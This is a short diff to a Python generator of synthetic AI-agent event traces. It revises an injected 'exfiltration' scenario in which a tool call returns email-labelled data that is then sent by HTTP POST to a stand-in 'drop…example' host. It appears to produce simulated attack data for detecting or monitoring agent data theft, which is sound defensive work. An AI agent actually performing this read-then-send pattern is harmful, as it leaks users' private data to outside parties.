@@ -342,9 +342,8 @@ def _inject(g: _Gen, ag: _Agent, t: int, sid: str, kind: str, tok: str) -> tuple
     rng, ev = g.rng, g.events
     out: list[str] = []
     if kind == "exfiltration":
-        src = rng.choice([k for k in ag.arch.table if k != "START"])
-        fp = g.fp()
-        ev.append(ag.call(t, sid, src, result_fingerprints=(fp,), result_labels=("email",)))
+        fp = g.fp()  # the session's current call returns the value that is then sent out
+        ev.append(ag.call(t, sid, tok, result_fingerprints=(fp,), result_labels=("email",)))
         t += _gap(g, ag.arch)
         c = ag.call(t, sid, "web/http_post", args_fingerprints=(fp,), args_labels=("email",),
                     args_bytes=g.size(8000, 0.8), destinations=(f"drop{rng.randrange(10**6)}.example",))
